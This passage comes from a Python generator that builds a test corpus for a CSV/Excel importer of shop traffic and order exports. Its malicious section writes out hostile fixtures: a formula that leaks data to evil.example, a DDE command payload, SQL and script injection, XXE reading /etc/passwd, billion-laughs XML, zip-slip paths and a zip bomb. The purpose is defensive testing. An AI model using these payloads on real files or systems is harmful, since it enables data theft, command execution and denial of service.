        outcome="reject",
        data=lines("city,temperature,humidity", "Hangzhou,12,0.8", "Beijing,3,0.3"),
        description="a CSV that is not a shop export at all",
        code="unrecognised_columns",
    )
    miss = Table([h for h in t.header if h != "访客数"], [r[:2] + r[3:] for r in rows_])
    case(
        file="structure/missing_required_visitors.csv",
        outcome="reject",
        data=csv_bytes(miss),
        description="traffic export without 访客数 (a required field)",
        code="unrecognised_columns",
    )
    headerless = t.copy()
    case(
        file="structure/headerless_with_columns_option.csv",
        outcome="accept",
        data=csv_text(None, headerless.rows).encode(),
        description="no header line; the user gave --columns",
        options={
            "kind": "traffic",
            "columns": [
                "date",
                "channel",
                "visitors",
                "product_visitors",
                "inquiries",
                "order_buyers",
                "paying_buyers",
                "pay_amount",
            ],
        },
        kind="traffic",
        rows=28,
        checks=ok,
    )
    case(
        file="structure/headerless_no_option.csv",
        outcome="reject",
        data=csv_text(None, headerless.rows).encode(),
        description="no header line and no --columns: never guessed",
        code="unrecognised_columns",
    )
    noisy = t.copy()
    noisy.header = [
        "统计日期\u00a0",
        " 流量来源",
        "访客数\u200b",
        "商品访客数\u3000",
        "咨询人数",
        "下单买家数",
        "支付买家数",
        "支付金额（元）",
    ]
    case(
        file="structure/header_noise.csv",
        outcome="accept",
        data=csv_bytes(noisy, "utf-8-sig"),
        description="NBSP, leading space, ZWSP, ideographic space, full-width brackets in headers",
        kind="traffic",
        rows=28,
        checks=ok,
    )
    s, n_orders = shopify_orders()
    case(
        file="structure/shopify_multiline_orders.csv",
        outcome="accept",
        data=csv_bytes(s, newline="\n"),
        description="Shopify order lines: order fields only on the first line of each order",
        kind="orders",
        rows=n_orders,
        checks=[
            ("select count(*) from orders", str(n_orders)),
            ("select count(distinct order_id) from orders", str(n_orders)),
        ],
    )
    # Workbooks
    case(
        file="structure/traffic.xlsx",
        outcome="accept",
        data=table_xlsx(t),
        description="traffic as a workbook with numeric cells",
        kind="traffic",
        rows=28,
        checks=ok,
    )
    case(
        file="structure/sycm_merged_title.xlsx",
        outcome="accept",
        data=table_xlsx(
            t,
            title_rows=[
                ["【生意参谋平台】流量-店铺来源"],
                ["统计时间：2024-01-01 ~ 2024-01-07"],
                [],
            ],
            merged=("A1:H1", "A2:H2"),
        ),
        description="Sycm workbook: merged title cells A1:H1 and A2:H2, header on row 4",
        kind="traffic",
        rows=28,
        checks=ok,
    )
    xt = [list(t.header)]
    for r in t.rows:
        serial = (date.fromisoformat(r[0]) - date(1899, 12, 30)).days
        xt.append([("d", serial), r[1], *[_number_or_text(v) for v in r[2:]]])
    case(
        file="structure/traffic_date_cells.xlsx",
        outcome="accept",
        data=xlsx_bytes({"流量来源": sheet_xml(xt)}),
        description="dates stored as Excel date serials with a date format",
        kind="traffic",
        rows=28,
        checks=[*ok, ("select min(date) from traffic", "2024-01-01")],
    )
    fx = [list(t.header)]
    for r in t.rows:
        amount = r[7]
        fx.append([*[_number_or_text(v) for v in r[:7]], ("f", f"{amount}*1", amount)])
    case(
        file="structure/formulas_with_cached_values.xlsx",
        outcome="accept",
        data=xlsx_bytes({"Sheet1": sheet_xml(fx)}),
        description="支付金额 cells are formulas with cached values (as Excel saves them): the"
        " cached value is read, nothing is evaluated",
        kind="traffic",
        rows=28,
        checks=ok,
    )
    fx_nc = [list(t.header)]
    for r in t.rows:
        fx_nc.append([*[_number_or_text(v) for v in r[:7]], ("f", f"{r[7]}*1", None)])
    case(
        file="structure/formulas_without_cached_values.xlsx",
        outcome="reject",
        data=xlsx_bytes({"Sheet1": sheet_xml(fx_nc)}),
        description="formulas never calculated (written by a script, e.g. openpyxl): the cells"
        " have no value; reading them as empty would import NULL amounts silently",
        code="formula_without_value",
        sheet="Sheet1",
        cell="H2",
    )
    case(
        file="structure/two_sheets_notes_first.xlsx",
        outcome="accept",
        data=xlsx_bytes(
            {
                "说明": sheet_xml([["本表由生意参谋导出"], ["数据仅供参考"]]),
                "流量来源": sheet_xml(
                    [list(t.header), *[[_number_or_text(v) for v in r] for r in t.rows]]
                ),
            }
        ),
        description="a notes sheet before the data sheet: the recognisable sheet is read",
        kind="traffic",
        rows=28,
        checks=ok,
    )
    case(
        file="structure/macro_workbook.xlsm",
        outcome="accept",
        data=xlsx_bytes(
            {
                "Sheet1": sheet_xml(
                    [list(t.header), *[[_number_or_text(v) for v in r] for r in t.rows]]
                )
            },
            extra={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504},
            macro=True,
        ),
        description=".xlsm with a VBA part: data read, macros never run",
        kind="traffic",
        rows=28,
        checks=ok,
    )
    case(
        file="structure/empty_workbook.xlsx",
        outcome="reject",
        data=xlsx_bytes({"Sheet1": sheet_xml([])}),
        description="a workbook with one empty sheet",
        code="no_rows",
    )


def png_bytes() -> bytes:
    """A valid 1×1 PNG."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    idat = zlib.compress(b"\x00\xff\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


# ----------------------------------------------------------------------------------------------
# values


def with_cell(table: Table, row: int, col: int, value: str) -> Table:
    """A copy of `table` with data row `row` (0-based), column `col` set to `value`."""
    out = table.copy()
    out.rows[row][col] = value
    return out


def values_cases() -> None:
    t = traffic()
    ok = checks_traffic(t)
    miss = t.copy()
    miss.rows[0][4] = "-"
    miss.rows[1][4] = "--"
    miss.rows[2][4] = ""
    miss.rows[3][4] = "暂无数据"
    miss.rows[4][7] = "-"
    amount_missing = Decimal(t.rows[4][7])
    case(
        file="values/missing_value_spellings.csv",
        outcome="accept_notice",
        data=csv_bytes(miss),
        description="'-', '--', '' and 暂无数据 in 咨询人数, '-' in 支付金额:"
        " NULL (not 0), counted",
        kind="traffic",
        rows=28,
        notice="missing_values",
        checks=[
            ("select count(*) from traffic where inquiries is null", "4"),
            ("select count(*) from traffic where pay_amount is null", "1"),
            ("select sum(pay_amount) from traffic", f"{t.pay_amount - amount_missing:.2f}"),
        ],
    )
    na = traffic(channels=("NA", "None", "null", "N/A", "nan", "NULL", "#N/A"), days=2)
    case(
        file="values/na_none_null_are_channel_names.csv",
        outcome="accept",
        data=csv_bytes(na),
        description="channels literally called NA, None, null, N/A, nan, NULL: data, not missing",
        kind="traffic",
        rows=14,
        checks=[
            ("select count(*) from traffic where channel is null", "0"),
            ("select count(distinct channel) from traffic", "7"),
            ("select count(*) from traffic where channel = 'None'", "2"),
            ("select count(*) from traffic where channel = 'nan'", "2"),
        ],
    )
    case(
        file="values/na_in_visitors_line6.csv",
        outcome="reject",
        data=csv_bytes(with_cell(t, 4, 2, "NA")),
        description="NA in a count column is text, not a missing value and not a number",
        code="bad_value",
        row=6,
        column="访客数",
        found="NA",
    )
    dm = t.copy()
    for r in dm.rows:
        d = date.fromisoformat(r[0])
        r[0] = d.strftime("%d/%m/%Y")
    case(
        file="values/ambiguous_dd_mm_dates.csv",
        outcome="reject",
        data=csv_bytes(dm),
        description="01/01/2024 … 07/01/2024: day and month both ≤ 12, the order is a guess",
        code="ambiguous_date",
        column="统计日期",
    )
    dm2 = traffic(start=date(2024, 1, 10))
    for r in dm2.rows:
        r[0] = date.fromisoformat(r[0]).strftime("%d/%m/%Y")
    case(
        file="values/dd_mm_dates_unambiguous.csv",
        outcome="accept",
        data=csv_bytes(dm2),
        description="10/01/2024 … 16/01/2024: days above 12 fix the order as dd/mm",
        kind="traffic",
        rows=28,
        checks=[*checks_traffic(dm2), ("select max(date) from traffic", "2024-01-16")],
    )
    case(
        file="values/impossible_date_line10.csv",
        outcome="reject",
        data=csv_bytes(with_cell(t, 8, 0, "2024-02-30")),
        description="2024-02-30 on line 10",
        code="bad_value",
        row=10,
        column="统计日期",
        found="2024-02-30",
    )
    case(
        file="values/date_month_13_line3.csv",
        outcome="reject",
        data=csv_bytes(with_cell(t, 1, 0, "2024-13-01")),
        description="month 13",
        code="bad_value",
        row=3,
        column="统计日期",
        found="2024-13-01",
    )
    fmts = t.copy()
    for i, r in enumerate(fmts.rows):
        d = date.fromisoformat(r[0])
        r[0] = (
            f"{d.year}/{d.month}/{d.day}",
            d.strftime("%Y%m%d"),
            f"{d.year}年{d.month}月{d.day}日",
        )[i % 3]
    case(
        file="values/date_spellings.csv",
        outcome="accept",
        data=csv_bytes(fmts),
        description="2024/1/5, 20240105 and 2024年1月5日 in one column",
        kind="traffic",
        rows=28,
        checks=[*ok, ("select count(distinct date) from traffic", "7")],
    )
    case(
        file="values/bad_grouping_1_23_line8.csv",
        outcome="reject",
        data=csv_bytes(with_cell(t, 6, 7, "1,23")),
        description="'1,23' in 支付金额: a decimal comma or a typo, never 123",
        code="bad_value",
        row=8,
        column="支付金额",
        found="1,23",
    )
    case(
        file="values/bad_grouping_12_3456_line5.csv",
        outcome="reject",
        data=csv_bytes(with_cell(t, 3, 2, "12,3456")),
        description="'12,3456' in 访客数: groups of four are not thousands",
        code="bad_value",
        row=5,
        column="访客数",
        found="12,3456",
    )
    grp = t.copy()
    for r in grp.rows:
        r[2] = f"{int(r[2]):,}"
        r[7] = f"{Decimal(r[7]):,.2f}"
    case(
        file="values/thousands_separators.csv",
        outcome="accept",
        data=csv_bytes(grp),
        description="'1,037' visitors and '1,234.50' amounts (quoted): exact",
        kind="traffic",
        rows=28,
        checks=ok,
    )
    fw = t.copy()
    full = str.maketrans("0123456789.", "０１２３４５６７８９．")
    for r in fw.rows:
        r[2] = r[2].translate(full)
        r[7] = r[7].translate(full)
    case(
        file="values/full_width_digits.csv",
        outcome="accept",
        data=csv_bytes(fw),
        description="full-width digits １０３７ and ．(IME input)",
        kind="traffic",
        rows=28,
        checks=ok,
    )
    yen = t.copy()
    for i, r in enumerate(yen.rows):
        r[7] = ("¥", "￥", "¥ ", "RMB")[i % 4] + r[7] if i % 4 < 3 else r[7] + "元"
    case(
        file="values/yen_signs.csv",
        outcome="accept",
        data=csv_bytes(yen),
        description="¥1234.50, ￥1234.50, '¥ 1234.50' and '1234.50元' in 支付金额",
        kind="traffic",
        rows=28,
        checks=ok,
    )
    sp = t.copy()
    for r in sp.rows:
        r[2] = f" {r[2]} "
    case(
        file="values/padded_numbers.csv",
        outcome="accept",
        data=csv_bytes(sp),
        description="numbers with leading and trailing spaces",
        kind="traffic",
        rows=28,
        checks=ok,
    )
    case(
        file="values/decimal_in_count_line5.csv",
        outcome="reject",
        data=csv_bytes(with_cell(t, 3, 2, "1249.5")),
        description="half a visitor on line 5: counts are integers, never rounded",
        code="bad_value",
        row=5,
        column="访客数",
        found="1249.5",
    )
    for label, value, line in (("nan", "NaN", 4), ("inf", "inf", 7), ("1e309", "1e309", 11)):
        case(
            file=f"values/{label}_amount_line{line}.csv",
            outcome="reject",
            data=csv_bytes(with_cell(t, line - 2, 7, value)),
            description=f"{value} in 支付金额: not a money amount",
            code="bad_value",
            row=line,
            column="支付金额",
            found=value,
        )
    case(
        file="values/text_in_amount_line20.csv",
        outcome="reject",
        data=csv_bytes(with_cell(t, 18, 7, "见附件")),
        description="text in 支付金额",
        code="bad_value",
        row=20,
        column="支付金额",
        found="见附件",
    )
    case(
        file="values/bidi_in_number_line9.csv",
        outcome="reject",
        data=csv_bytes(with_cell(t, 7, 2, "12\u202e34")),
        description="a right-to-left override inside a number: rejected, and shown escaped",
        code="bad_value",
        row=9,
        column="访客数",
        found="12\u202e34",
    )
    wan = t.copy()
    wan.rows[0][2] = "1.2万"
    wan.visitors = t.visitors - int(t.rows[0][2]) + 12000
    case(
        file="values/wan_visitors.csv",
        outcome="accept",
        data=csv_bytes(wan),
        description="'1.2万' visitors (Sycm rounds large counts): 12000",
        kind="traffic",
        rows=28,
        checks=[("select sum(visitors)::bigint from traffic", str(wan.visitors))],
    )
    rate = Table(
        [*t.header, "跳失率", "平均停留时长"],
        [
            [*r, f"{40 + i % 9}.{i % 10}0%", f"00:0{i % 3}:{10 + i:02d}"]
            for i, r in enumerate(t.rows)
        ],
    )
    case(
        file="values/percent_and_duration.csv",
        outcome="accept",
        data=csv_bytes(rate),
        description="跳失率 '40.00%' → 0.40 and 平均停留时长 '00:01:23' → 83 s",
        kind="traffic",
        rows=28,
        checks=[
            (
                "select bounce_rate from traffic"
                " where date = '2024-01-01' and channel = '手淘搜索'",
                "0.4",
            ),
            (
                "select avg_stay_seconds from traffic"
                " where date = '2024-01-01' and channel = '手淘推荐'",
                "71.0",
            ),
        ],
    )
    o = tb_orders()
    o.rows[5][0] = "3.71235E+18"
    case(
        file="values/order_id_scientific_line7.csv",
        outcome="reject",
        data=csv_bytes(o, "gbk"),
        description="an order id Excel turned into 3.71235E+18: the real id is lost, never import"
        " it as an id",
        code="bad_id",
        row=7,
        column="订单编号",
        found="3.71235E+18",
    )
    o2 = tb_orders()
    o2.rows[3][5] = "2024-01-32 10:00:00"
    case(
        file="values/order_bad_timestamp_line5.csv",
        outcome="reject",
        data=csv_bytes(o2, "gbk"),
        description="订单创建时间 2024-01-32",
        code="bad_value",
        row=5,
        column="订单创建时间",
        found="2024-01-32 10:00:00",
    )
    # Differences that sit past DuckDB's sniff sample: built at test time.
    case(
        file="values/sniff_decimal_row30000.csv",
        outcome="accept",
        description="30,000 rows whose 支付金额 look like integers until line 30,001 has '100.5'"
        " (DuckDB's sniffer types the column BIGINT and rounds silently)",
        kind="traffic",
        rows=30000,
        checks=[("select sum(pay_amount) from traffic", "3000000.50")],
    )
    case(
        file="values/sniff_decimal_in_visitors_row30000.csv",
        outcome="reject",
        description="30,000 integer visitors, then '12.5' on line 30,001",
        code="bad_value",
        row=30001,
        column="访客数",
        found="12.5",
    )
    case(
        file="values/sniff_text_in_date_row25000.csv",
        outcome="reject",
        description="25,000 good dates, then '2023-02-29' (not a leap year) on line 25,001",
        code="bad_value",
        row=25001,
        column="统计日期",
        found="2023-02-29",
    )


def sniff_table(rows: int) -> tuple[list[str], list[list[str]]]:
    """`rows` distinct traffic rows (days × 30 channels) with integer-looking amounts of 100."""
    channels = [f"渠道{c:02d}" for c in range(30)]
    out = []
    for i in range(rows):
        day = date(2019, 1, 1) + timedelta(days=i // 30)
        out.append([day.isoformat(), channels[i % 30], "10", "6", "1", "1", "1", "100"])
    return list(SYCM_TRAFFIC_HEADER), out


# ----------------------------------------------------------------------------------------------
# sizes


def sizes_cases() -> None:
    t = traffic()
    case(
        file="sizes/empty.csv", outcome="reject", data=b"", description="0 bytes", code="empty_file"
    )
    case(
        file="sizes/bom_only.csv",
        outcome="reject",
        data=b"\xef\xbb\xbf",
        description="a UTF-8 BOM and nothing else",
        code="empty_file",
    )
    case(
        file="sizes/blank_lines_only.csv",
        outcome="reject",
        data=b"\r\n\r\n  \r\n\n",
        description="only blank lines",
        code="empty_file",
    )
    case(
        file="sizes/empty.xlsx",
        outcome="reject",
        data=b"",
        description="0-byte .xlsx",
        code="empty_file",
    )
    wide = Table(
        [*t.header, *[f"自定义指标{i}" for i in range(200)]],
        [[*r, *[str(i) for i in range(200)]] for r in t.rows],
    )
    case(
        file="sizes/wide_200_extra_columns.csv",
        outcome="accept",
        data=csv_bytes(wide),
        description="208 columns, 200 of them unknown: read, unknown ones ignored",
        kind="traffic",
        rows=28,
        checks=checks_traffic(t),
    )
    case(
        file="sizes/very_wide_20000_columns.csv",
        outcome="reject",
        description="20,000 columns (more than Excel's 16,384): over the column cap",
        code="too_many_columns",
        max_seconds=10,
    )
    case(
        file="sizes/huge_line_8mb.csv",
        outcome="reject",
        description="one 8 MB line without a newline (a binary blob or a minified dump)",
        code="line_too_long",
        max_seconds=10,
    )
    case(
        file="sizes/huge_cell_2mb_line3.csv",
        outcome="reject",
        description="a 2 MB quoted cell in 流量来源 on line 3",
        code="cell_too_long",
        row=3,
        column="流量来源",
        max_seconds=10,
    )
    case(
        file="sizes/long_60000_rows.csv",
        outcome="accept",
        description="60,000 rows (≈5.5 years × 30 channels), well inside the caps",
        kind="traffic",
        rows=60000,
        checks=[
            ("select count(*) from traffic", "60000"),
            ("select sum(pay_amount) from traffic", "6000000.00"),
        ],
        max_seconds=30,
    )
    case(
        file="sizes/over_upload_limit.csv",
        outcome="reject",
        description="one byte more than the app's upload limit: rejected before any parsing",
        code="file_too_large",
        max_seconds=10,
    )
    case(
        file="sizes/over_row_limit.csv",
        outcome="reject",
        description="one data row more than the row cap",
        code="too_many_rows",
        max_seconds=60,
    )
    case(
        file="sizes/zip_bomb_sheet.xlsx",
        outcome="reject",
        data=zip_bomb(),
        description="a 300 MB worksheet deflated to ~300 KB: rejected from the zip directory"
        " (uncompressed size and ratio) before any XML is parsed",
        code="archive_too_large",
        max_seconds=5,
    )
    case(
        file="sizes/three_hundred_sheets.xlsx",
        outcome="reject",
        data=xlsx_bytes(
            {
                **{f"S{i}": sheet_xml([["备注"]]) for i in range(299)},
                "流量来源": sheet_xml([list(t.header), *t.rows]),
            }
        ),
        description="300 sheets, the data on the last one: over the sheet cap",
        code="too_many_sheets",
        max_seconds=5,
    )


def zip_bomb(megabytes: int = 300) -> bytes:
    """A workbook whose sheet1.xml inflates to `megabytes` MB of blanks."""
    head = sheet_xml([list(SYCM_TRAFFIC_HEADER)]).replace("</sheetData>", "")
    tail = "</sheetData></worksheet>"
    out = io.BytesIO()
    base = xlsx_bytes({"Sheet1": sheet_xml([["x"]])})
    with (
        zipfile.ZipFile(io.BytesIO(base)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf,
    ):
        for info in src.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                zi = zipfile.ZipInfo(info.filename, ZIP_TIME)
                zi.compress_type = zipfile.ZIP_DEFLATED
                with zf.open(zi, "w", force_zip64=True) as dst:
                    dst.write(head.encode())
                    block = b" " * (1 << 20)
                    for _ in range(megabytes):
                        dst.write(block)
                    dst.write(tail.encode())
            else:
                zi = zipfile.ZipInfo(info.filename, ZIP_TIME)
                zi.compress_type = zipfile.ZIP_DEFLATED
                zf.writestr(zi, src.read(info.filename))
    return out.getvalue()


# ----------------------------------------------------------------------------------------------
# malicious


def malicious_cases() -> None:
    t = traffic()
    ok = checks_traffic(t)
    good = csv_bytes(t, "utf-8-sig")
    for label, name in (
        ("path_traversal", "../../../../etc/cron.d/traffic.csv"),
        ("windows_traversal", "..\\..\\Windows\\System32\\traffic.csv"),
        ("absolute_path", "/etc/passwd.csv"),
        ("control_chars", "traffic\r\n\x1b[31mred\x07.csv"),
        ("nul_in_name", "traffic.csv\x00.exe.csv"),
        ("reserved_windows_name", "CON.csv"),
        ("very_long_name", "流" * 300 + ".csv"),
        ("rtl_override_kept_ext", "report\u202evsc.csv"),
        ("dot_dot_only_ext", "...csv"),
    ):
        case(
            file=f"malicious/name_{label}.csv",
            outcome="accept",
            data=good,
            name=name,
            description=f"upload named {name!r}: display text only; stored as raw/<sha256>.csv",
            kind="traffic",
            rows=28,
            checks=ok,
        )
    case(
        file="malicious/name_rtl_override_exe.csv",
        outcome="reject",
        data=good,
        name="invoice\u202ecsv.exe",
        description="RTLO spoofing: shows as 'invoiceexe.csv', really ends in .exe",
        code="unsupported_extension",
    )
    case(
        file="malicious/name_double_extension_exe.csv",
        outcome="reject",
        data=good,
        name="traffic.csv.exe",
        description="double extension ending in .exe",
        code="unsupported_extension",
    )
    case(
        file="malicious/name_trailing_dot_space.csv",
        outcome="reject",
        data=good,
        name="traffic.exe. ",
        description="Windows trailing dot/space trick",
        code="unsupported_extension",
    )
    case(
        file="malicious/name_no_extension.csv",
        outcome="reject",
        data=good,
        name="traffic",
        description="no extension at all",
        code="unsupported_extension",
    )
    hostile = traffic(
        days=1,
        channels=(
            '=HYPERLINK("http://evil.example/?"&A1,"点击")',
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\tTAB",
            "＝1+1",
            'x"; drop table traffic; --',
            "<script>alert(1)</script>",
            "$x$ **b** `c`",
            "secret",
        ),
    )
    case(
        file="malicious/formula_and_injection_channels.csv",
        outcome="accept",
        data=csv_bytes(hostile, "utf-8-sig"),
        description="channel names that are formulas, SQL, HTML, Markdown/LaTeX and a Python"
        " variable name: stored exactly, never run",
        kind="traffic",
        rows=10,
        checks=[
            (
                'select count(*) from traffic where channel = \'=HYPERLINK("http://evil.example/?"&A1,"点击")\'',
                "1",
            ),
            ("select count(*) from traffic where channel = 'x\"; drop table traffic; --'", "1"),
            ("select count(*) from traffic where channel = 'secret'", "1"),
            ("select count(*) from traffic where channel = chr(9) || 'TAB'", "1"),
        ],
    )
    case(
        file="malicious/formula_channels.xlsx",
        outcome="accept",
        data=xlsx_bytes(
            {
                "Sheet1": sheet_xml(
                    [list(hostile.header), *[[_number_or_text(v) for v in r] for r in hostile.rows]]
                )
            }
        ),
        description="the same hostile channel names as workbook text cells",
        kind="traffic",
        rows=10,
        checks=[("select count(*) from traffic where channel = '+cmd|'' /C calc''!A0'", "1")],
    )
    lol = "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' if i else '<!ENTITY lol0 "lol">'
        for i in range(10)
    )
    case(
        file="malicious/billion_laughs_shared_strings.xlsx",
        outcome="reject",
        data=xlsx_bytes(
            {
                "Sheet1": '<?xml version="1.0"?><worksheet xmlns="'
                + SPREADSHEET_NS
                + '"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c>'
                '<c r="B1" t="s"><v>1</v></c></row><row r="2"><c r="A2" t="s"><v>2</v></c>'
                '<c r="B2"><v>1</v></c></row></sheetData></worksheet>'
            },
            shared_strings='<?xml version="1.0"?><!DOCTYPE sst [' + lol + "]>"
            '<sst xmlns="' + SPREADSHEET_NS + '" count="3" uniqueCount="3">'
            "<si><t>统计日期</t></si><si><t>&lol9;</t></si><si><t>2024-01-01</t></si></sst>",
        ),
        description="billion laughs: 10 levels of entities in sharedStrings.xml (a 3 GB string"
        " if expanded); must be refused without expanding",
        code="unreadable_workbook",
        max_seconds=5,
    )
    xxe_doctype = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    xxe_rows = [list(t.header), *[[_number_or_text(v) for v in r] for r in t.rows]]
    xxe_rows[1][1] = ("raw", "&xxe;")
    case(
        file="malicious/xxe_file_entity_sheet.xlsx",
        outcome="reject",
        data=xlsx_bytes({"Sheet1": sheet_xml(xxe_rows, doctype=xxe_doctype)}),
        description="an external entity reading /etc/passwd into a channel cell: never resolved",
        code="unreadable_workbook",
        max_seconds=5,
    )
    case(
        file="malicious/xxe_parameter_entity_workbook.xlsx",
        outcome="reject",
        data=xlsx_bytes(
            {"Sheet1": sheet_xml([list(t.header), *t.rows])},
            workbook_doctype=(
                '<!DOCTYPE workbook [<!ENTITY % ext SYSTEM "http://127.0.0.1:9/x.dtd"> %ext;]>'
            ),
        ),
        description="a parameter entity fetching a remote DTD from workbook.xml: no network",
        code="unreadable_workbook",
        max_seconds=5,
    )
    slip = xlsx_bytes(
        {"Sheet1": sheet_xml([list(t.header), *t.rows])},
        extra={"../../../../tmp/shoplens_zip_slip.txt": "pwned", "/etc/shoplens_abs.txt": "pwned"},
    )
    case(
        file="malicious/zip_slip_member_names.xlsx",
        outcome="reject",
        data=slip,
        description="members named ../../../../tmp/… and /etc/…: rejected from the directory;"
        " nothing is ever extracted",
        code="unreadable_workbook",
    )
    case(
        file="malicious/ole_encrypted_named.xlsx",
        outcome="reject",
        data=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 1016,
        description="an OLE compound file (password-protected workbooks are stored this way)"
        " named .xlsx",
        code="unsupported_format",
    )
    case(
        file="malicious/html_table_named.xls",
        outcome="reject",
        data=(
            "<html><body><script>alert(1)</script><table><tr><td>统计日期</td><td>流量来源</td>"
            "<td>访客数</td></tr><tr><td>2024-01-01</td><td>搜索</td><td>10</td></tr></table>"
            "</body></html>"
        ).encode(),
        description="an HTML page named .xls (some back-ends 'export' this way); not parsed as"
        " a table and never rendered",
        code="unrecognised_columns",
    )
    esc = traffic(days=1, channels=("\x1b[2J\x1b[31mRED", "bell\x07", "nul-free\u2028line", "普通"))
    case(
        file="malicious/terminal_escapes_in_channels.csv",
        outcome="accept",
        data=csv_bytes(esc),
        description="ANSI escape sequences and a bell in channel names: stored as data",
        kind="traffic",
        rows=4,
        checks=[
            (
                "select count(*) from traffic"
                " where channel = chr(27) || '[2J' || chr(27) || '[31mRED'",
                "1",
            )
        ],
    )


# ----------------------------------------------------------------------------------------------
# Generated at test time


def build_generated(file: str, folder: Path, limits: dict[str, int] | None = None) -> Path:
    """Write the generated corpus file `file` into `folder` and return its path.

    `limits` gives the reader's caps where a case must sit just over one (`upload_bytes`,
    `rows`).
    """
    builders: dict[str, Callable[[], bytes]] = {
        "values/sniff_decimal_row30000.csv": lambda: _sniff(30000, 7, "100.5"),
        "values/sniff_decimal_in_visitors_row30000.csv": lambda: _sniff(30000, 2, "12.5"),
        "values/sniff_text_in_date_row25000.csv": lambda: _sniff(
            25000, 0, "2023-02-29", rows=25010
        ),
        "sizes/very_wide_20000_columns.csv": _very_wide,
        "sizes/huge_line_8mb.csv": lambda: b"a" * (8 << 20),
        "sizes/huge_cell_2mb_line3.csv": _huge_cell,
        "sizes/long_60000_rows.csv": lambda: _long(60000),
        "sizes/over_upload_limit.csv": lambda: _over_size((limits or {})["upload_bytes"]),
        "sizes/over_row_limit.csv": lambda: _long((limits or {})["rows"] + 1),
    }
    path = folder / file.replace("/", "__")
    path.write_bytes(builders[file]())
    return path


def _sniff(line: int, col: int, value: str, rows: int | None = None) -> bytes:
    """Sniff-sample rows; the data row on physical `line + 1` gets `value` in column `col`."""
    header, data = sniff_table(rows or line)
    data[line - 1][col] = value
    return csv_text(header, data).encode("utf-8")


def _very_wide() -> bytes:
    header = [*SYCM_TRAFFIC_HEADER, *[f"c{i}" for i in range(20000 - 8)]]
    row = ["2024-01-01", "搜索", "1", "1", "1", "1", "1", "1", *["0"] * (20000 - 8)]
    return csv_text(header, [row, row]).encode()


def _huge_cell() -> bytes:
    t = traffic(days=1)
    t.rows[1][1] = "流" * (2 << 20)
    return csv_bytes(t)


def _long(rows: int) -> bytes:
    header, data = sniff_table(rows)
    return csv_text(header, data).encode("utf-8")


def _over_size(limit: int) -> bytes:
    """A well-formed traffic CSV padded with trailing spaces in its last cell to `limit + 1`."""
    t = traffic(days=1)
    body = csv_bytes(t)
    return body + b" " * (limit + 1 - len(body))


# ----------------------------------------------------------------------------------------------
# Manifest


def toml_string(text: str) -> str:
    """A TOML basic string: printable characters as they are, everything else escaped."""
    out = ['"']
    for ch in text:
        if ch == '"':
            out.append('\\"')
        elif ch == "\\":
            out.append("\\\\")
        elif ch.isprintable() and not ("\u202a" <= ch <= "\u202e" or "\u2066" <= ch <= "\u2069"):
            out.append(ch)
        elif ord(ch) > 0xFFFF:
            out.append(f"\\U{ord(ch):08x}")
        else:
            out.append(f"\\u{ord(ch):04x}")
    out.append('"')
    return "".join(out)


def toml_value(value: Any) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float)):
        return repr(value)
    if isinstance(value, str):
        return toml_string(value)
    if isinstance(value, (list, tuple)):
        return "[" + ", ".join(toml_value(v) for v in value) + "]"
    if isinstance(value, dict):
        return "{ " + ", ".join(f"{k} = {toml_value(v)}" for k, v in value.items()) + " }"
    raise TypeError(type(value))


def manifest_text(cases: Sequence[Case]) -> str:
    """The manifest: one [[case]] table per file, in group order."""
    out = [
        "# Generated by tests/corpus/make_corpus.py: edit the generator, not this file.",
        "# outcome: accept | accept_notice | reject. rows = canonical rows stored.",
        "# row = 1-based physical line (sheet row for workbooks); checks = [SQL, str(first cell)].",
        "",
    ]
    for c in cases:
        out.append("[[case]]")
        out.append(f"file = {toml_string(c.file)}")
        out.append(f"group = {toml_string(c.group)}")
        out.append(f"outcome = {toml_string(c.outcome)}")
        out.append(f"description = {toml_string(c.description)}")
        if c.generated:
            out.append("generated = true")
        for key in (
            "name",
            "kind",
            "rows",
            "notice",
            "code",
            "row",
            "column",
            "found",
            "sheet",
            "cell",
            "max_seconds",
            "xfail",
        ):
            value = getattr(c, key)
            if value is not None:
                out.append(f"{key} = {toml_value(value)}")
        if c.options:
            out.append(f"options = {toml_value(c.options)}")
        if c.checks:
            out.append("checks = [")
            out.extend(f"  [{toml_string(sql)}, {toml_string(val)}]," for sql, val in c.checks)
            out.append("]")
        out.append("")
    return "\n".join(out)


def build_all() -> list[Case]:
    """Register every case (once)."""
    if not CASES:
        encoding_cases()
        structure_cases()
        values_cases()
        sizes_cases()
        malicious_cases()
    return CASES


def main() -> None:
    cases = build_all()
    for group in GROUPS:
        folder = CORPUS / group
        folder.mkdir(exist_ok=True)
        for old in folder.iterdir():
            old.unlink()
    for c in cases:
        if c.data is not None:
            (CORPUS / c.file).write_bytes(c.data)
    (CORPUS / "manifest.toml").write_text(manifest_text(cases), encoding="utf-8")
    total = sum(len(c.data) for c in cases if c.data is not None)
    print(
        f"{len(cases)} cases, {sum(c.data is not None for c in cases)} files, {total / 1e6:.2f} MB",
        file=sys.stderr,
    )


if __name__ == "__main__":
    main()
